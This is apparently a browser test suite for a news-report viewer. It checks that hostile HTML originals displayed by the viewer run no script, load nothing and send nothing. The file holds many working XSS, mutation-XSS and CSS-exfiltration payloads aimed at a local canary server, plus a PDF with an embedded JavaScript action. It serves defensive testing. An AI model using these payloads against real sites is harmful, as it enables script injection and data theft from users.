"""Reports of strangers: shown in a real browser, nothing of them runs, loads, leads away or sends anything."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from hashlib import sha256
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from time import process_time

import pytest
from playwright.sync_api import Browser, Page, expect

from sayso.nouns.report import Collected, Original, Report
from sayso.pipeline import build_record
from sayso.settings import Settings
from sayso.store.sqlite import Case
from sayso.web.originals import ORIGINAL_POLICY, original_page
from tests.web.conftest import serving

SENTENCE = "Six people were killed in Velm on Friday, the Harbour Office said, and 40 were detained."

RUNS = """
<script>top.pwned = parent.pwned = window.pwned = 1; fetch("CANARY/fetched")</script>
<script src="CANARY/script.js"></script>
<img src="x" onerror="top.pwned = 2; new Image().src = 'CANARY/onerror'">
<svg onload="top.pwned = 3"><script>top.pwned = 4</script><use href="CANARY/use.svg#a"/>
<image href="CANARY/i.png"/></svg>
<math><mtext><style><img src=x onerror="top.pwned = 5"></style></mtext></math>
<a id="lead" href="javascript:top.pwned = 6">a script behind a link</a>
<a href="  java&#9;script:top.pwned = 7">another</a>
<a href="CANARY/followed" ping="CANARY/ping" target="_top">a link away</a>
<iframe src="javascript:top.pwned = 8"></iframe><iframe srcdoc="<script>top.pwned = 9</script>"></iframe>
<iframe src="CANARY/frame"></iframe>
<object data="CANARY/object"></object><embed src="CANARY/embed"><applet code="CANARY/applet"></applet>
<object data="data:text/html,<script>top.pwned = 10</script>"></object>
<form action="CANARY/sent"><input name="a" autofocus onfocus="top.pwned = 11"><button id="send">send</button></form>
<details open ontoggle="top.pwned = 12"><summary>more</summary>words</details>
<video poster="CANARY/poster" onloadstart="top.pwned = 13"><source src="CANARY/film"></video>
<audio src="CANARY/sound" autoplay></audio><input type="image" src="CANARY/button">
<body onload="top.pwned = 14" background="CANARY/background">
<table background="CANARY/table"><tr><td>a</td></tr></table>
<marquee onstart="top.pwned = 15">runs</marquee>
<picture><source srcset="CANARY/set 1x"><img src="CANARY/picture"></picture>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned = 16'/>" alt="drawn">
<template><img src="CANARY/template"></template>
<noscript><p title="</noscript><img src=x onerror=top.pwned=17>"></noscript>
<xmp><img src=x onerror="top.pwned = 18"></xmp><plaintext-not></plaintext-not>
<portal src="CANARY/portal"></portal><slot onslotchange="top.pwned = 19"></slot>
"""
LOADS = """
<base href="CANARY/base/"><meta http-equiv="refresh" content="0;url=CANARY/refreshed">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="stylesheet" href="CANARY/style.css"><link rel="preload" href="CANARY/ahead" as="image">
<link rel="dns-prefetch" href="CANARY"><link rel="manifest" href="CANARY/manifest"><link rel="icon" href="CANARY/icon">
<style>@import "CANARY/imported.css"; @import url(CANARY/imported2.css);
  @font-face { font-family: leak; src: url(CANARY/font) } body { font-family: leak; background: url("CANARY/body") }
  p[title^="S"] { background-image: url(CANARY/exfiltrated-S) } p::before { content: url(CANARY/before) }
  i { background: \\75rl(CANARY/escaped); background-image: image-set("CANARY/set" 1x) }
  b { background: ur/**/l(CANARY/split); cursor: url(CANARY/cursor), auto } </style>
<style><\\/style><script>top.pwned = 30</script></style>
<p title="Secret" style="background: url(CANARY/inline); position: fixed; inset: 0">laid over everything</p>
<i>italic</i> <b>bold</b> <img src="relative.png" srcset="CANARY/one 1x, CANARY/two 2x" lowsrc="CANARY/low">
"""
BROKEN = """<p><b>Six <i>people <table><div <a href="javascript:top.pwned = 40" onclick='top.pwned = 41' <<<img src=x
onerror=top.pwned=42//><!-- never closed <script>top.pwned = 43</script>"""

PAGES = {
    "runs": f"<html><head><title>Runs</title></head><body><p>{SENTENCE}</p>{RUNS}</body></html>",
    "loads": f"<html><head><title>Loads</title>{LOADS}</head><body><p>{SENTENCE}</p>{LOADS}</body></html>",
    "broken": f"<html><title>Broken</title><body><p>{SENTENCE}</p>{BROKEN}",
    "turned": f"<html><body><p>\u202e{SENTENCE}\u202c</p><p>&#x202e;{SENTENCE}</p><bdo dir=rtl>a</bdo></body></html>",
    "nothing": f"<html><body>\0<p>{SENTENCE}\0\0</p>\0<scr\0ipt>top.pwned = 50</scr\0ipt></body></html>",
    "deep": f"<html><body><p>{SENTENCE}</p>{'<div>' * 3000}deep{'<script>top.pwned = 60</script>' * 3}</body></html>",
    "huge": f"<html><body><p>{SENTENCE}</p>{'<i onclick=top.pwned=70></i>' * 60_000}</body></html>",
}  # fmt: skip
LINE = {
    "id": 'line "><script>top.pwned = 80</script>/..',
    "title": "<img src=x onerror='top.pwned = 81'>",
    "publisher": "<script>top.pwned = 82</script>",
    "url": "javascript:top.pwned=83",
    "text": f"{SENTENCE} <script>top.pwned = 84</script> \u202et\u202c \0 <img src='CANARY/i' onerror=top.pwned=85>",
}


class Canary(ThreadingHTTPServer):
    """A server that nothing is to call; it notes who does, and gives what `pages` holds."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Listening)
        self.hits: list[str] = []
        self.pages: dict[str, tuple[str, str]] = {}

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


class _Listening(BaseHTTPRequestHandler):
    server: Canary

    def do_GET(self) -> None:
        body, policy = self.server.pages.get(self.path, ("", ""))
        if not body:
            self.server.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        if policy:
            self.send_header("Content-Security-Policy", policy)
        self.end_headers()
        self.wfile.write(body.encode())

    do_POST = do_GET  # noqa: N815

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    with Canary() as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture(scope="module")
def hostile(canary: Canary, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, dict[str, str]]]:
    """The address of a case of hostile reports, and their ids by name."""
    folder = tmp_path_factory.mktemp("hostile")
    for name, page in PAGES.items():
        (folder / f"{name}.html").write_text(page.replace("CANARY", canary.address), "utf-8")
    text = json.dumps(LINE).replace("CANARY", canary.address)
    (folder / "line.jsonl").write_text(text + "\n", "utf-8")
    (folder / "plain.txt").write_text(f"{SENTENCE}\n{RUNS.replace('CANARY', canary.address)}", "utf-8")
    case = folder / "hostile.sayso"
    build_record([folder], case, Settings())
    with Case.open(case, readonly=True) as opened:
        ids = {Path(report.path or "").stem: report.id for report in opened.reports()}
    with serving(case) as address:
        yield address, ids


def pwned(page: Page) -> list[object]:
    """What any script of a report has left, in any frame that can be asked."""
    return [left for frame in page.frames if (left := frame.evaluate("window.pwned")) is not None]


@pytest.mark.parametrize("name", [*PAGES, "line", "plain"])
def test_a_hostile_original_is_only_looked_at(
    name: str, hostile: tuple[str, dict[str, str]], opened: Callable[[str], Page], canary: Canary
) -> None:
    address, ids = hostile
    canary.hits.clear()
    page = opened(address)
    page.evaluate("id => { location.hash = `#/reports/${encodeURIComponent(id)}?original=1` }", ids[name])
    inside = page.frame_locator("iframe")
    expect(inside.locator("body")).to_contain_text("people were killed in Velm")
    if name != "nothing":  # which is no page for its zero bytes, and is not read
        expect(page.locator(".text")).to_contain_text("people were killed in Velm")
    page.wait_for_timeout(150)
    assert pwned(page) == []
    assert canary.hits == []
    assert len(page.frames) == 2
    left = inside.locator("body").evaluate(
        """body => [...body.querySelectorAll('*')].flatMap(one => [
            /^(script|iframe|object|embed|form|input|button|svg|base|meta|link|video|audio)$/i.test(one.tagName)
              ? [one.tagName] : [],
            [...one.attributes].filter(({ name, value }) => /^on|href|src(?!$)|action|ping|background/i.test(name)
              || (name === 'src' && !value.startsWith('data:image/'))).map(({ name }) => name),
        ].flat())"""
    )
    assert left == []
    assert page.url.startswith(address.split("/enter")[0])


def test_words_that_turn_the_reading_direction_are_told(
    hostile: tuple[str, dict[str, str]], opened: Callable[[str], Page]
) -> None:
    address, ids = hostile
    page = opened(address)
    page.evaluate("id => { location.hash = `#/reports/${encodeURIComponent(id)}?original=1` }", ids["turned"])
    inside = page.frame_locator("iframe").locator("body")
    expect(inside).to_contain_text("�Six people")
    for shown in (inside.inner_text(), page.locator("main").inner_text()):
        assert not set(shown) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\0")


def test_no_link_of_an_original_leads_anywhere(
    hostile: tuple[str, dict[str, str]], opened: Callable[[str], Page], canary: Canary
) -> None:
    address, ids = hostile
    page = opened(address)
    page.evaluate("id => { location.hash = `#/reports/${encodeURIComponent(id)}?original=1` }", ids["runs"])
    inside = page.frame_locator("iframe")
    for link in inside.locator("a").all():
        link.click(force=True)
    assert pwned(page) == []
    assert canary.hits == []
    assert len(page.context.pages) == 1


def test_the_policy_alone_holds_where_nothing_was_taken_out(browser: Browser, canary: Canary) -> None:
    page = browser.new_context().new_page()
    page.set_default_timeout(10_000)
    hostile = "".join(PAGES[name] for name in ("runs", "loads", "broken")).replace("CANARY", canary.address)
    canary.pages["/raw"] = (hostile.replace('http-equiv="refresh"', 'http-equiv="none"'), ORIGINAL_POLICY)
    canary.pages["/around"] = ('<iframe sandbox="" src="/raw" title="raw"></iframe>', "")
    canary.hits.clear()
    page.goto(f"{canary.address}/around")
    expect(page.frame_locator("iframe").locator("body")).to_contain_text("killed in Velm")
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    assert [hit for hit in canary.hits if hit != "/favicon.ico"] == []
    page.context.close()


def test_the_canary_sings(browser: Browser, canary: Canary) -> None:
    """Without policy and frame the same pages do run and load: the tests above can fail."""
    page = browser.new_context().new_page()
    canary.pages["/free"] = (f"<html>{RUNS.replace('CANARY', canary.address)}</html>", "")
    canary.hits.clear()
    page.goto(f"{canary.address}/free")
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is not None
    assert any("onerror" in hit for hit in canary.hits)
    page.context.close()


def test_an_original_has_a_policy_of_its_own(
    hostile: tuple[str, dict[str, str]], opened: Callable[[str], Page]
) -> None:
    address, ids = hostile
    page = opened(address)
    headers = page.evaluate(
        "async id => Object.fromEntries((await fetch(`/api/originals/${encodeURIComponent(id)}`)).headers)", ids["runs"]
    )
    assert headers["content-security-policy"] == ORIGINAL_POLICY
    assert headers["x-content-type-options"] == "nosniff"


def test_a_broken_pdf_is_told_and_breaks_nothing(tmp_path: Path, opened: Callable[[str], Page]) -> None:
    broken = tmp_path / "broken.pdf"
    broken.write_bytes(
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R /OpenAction << /S /JavaScript /JS (app.alert(1))"
    )
    case = tmp_path / "broken.sayso"
    build_record([broken], case, Settings())
    with serving(case) as address:
        page = opened(address)
        origin = address.split("/enter")[0]
        drawn = page.request.get(f"{origin}/api/picture/0/{sha256(broken.read_bytes()).hexdigest()}")
        after = page.request.get(f"{origin}/api/account")
    assert drawn.status == 404
    assert drawn.json()["detail"] == "the PDF cannot be drawn: it is broken, or locked with a password"
    assert after.status == 200


def test_very_many_strange_elements_take_no_time() -> None:
    source = f"<body><p>{SENTENCE}</p>{'<strange>word</strange><form><input></form>' * 19_000}"
    content = source.encode()
    original = Original(sha256="0" * 64, media_type="text/html; charset=utf-8", content=content)
    report = Report(
        id="r", path=None, url=None, title=None, publisher=None, published=None, language="en", sha256="0" * 64, text=""
    )
    began = process_time()
    page = original_page(Collected(report=report, original=original), [], None)
    assert process_time() - began < 5
    assert "killed in Velm" in page
    assert "<strange" not in page
